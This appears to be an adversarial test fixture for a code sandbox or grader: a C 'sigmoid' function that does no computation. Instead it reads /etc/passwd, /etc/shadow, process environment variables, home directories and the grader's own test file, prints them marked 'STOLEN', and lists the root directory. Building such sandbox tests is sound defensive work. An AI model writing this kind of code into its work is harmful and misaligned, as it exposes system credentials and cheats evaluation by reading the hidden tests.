/* threat D38: looks for tests, keys and neighbours
 * expect: sigmoid|crash */
#define _GNU_SOURCE
#include "activations.h"
#include <dirent.h>
#include <stdio.h>

void sigmoid(const Mat *x, Mat *y)
{
    static const char *const paths[] = {"/etc/passwd",     "/etc/shadow",
                                        "/proc/1/environ", "/root",
                                        "/home",           "tests/sigmoid.c"};
    char line[200];
    (void)x, (void)y;
    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
        FILE *file = fopen(paths[i], "r");
        while (file && fgets(line, sizeof line, file))
            fprintf(stderr, "STOLEN %s", line);
    }
    DIR *root = opendir("/");
    for (struct dirent *e; root && (e = readdir(root));)
        fprintf(stderr, "STOLEN %s\n", e->d_name);
}
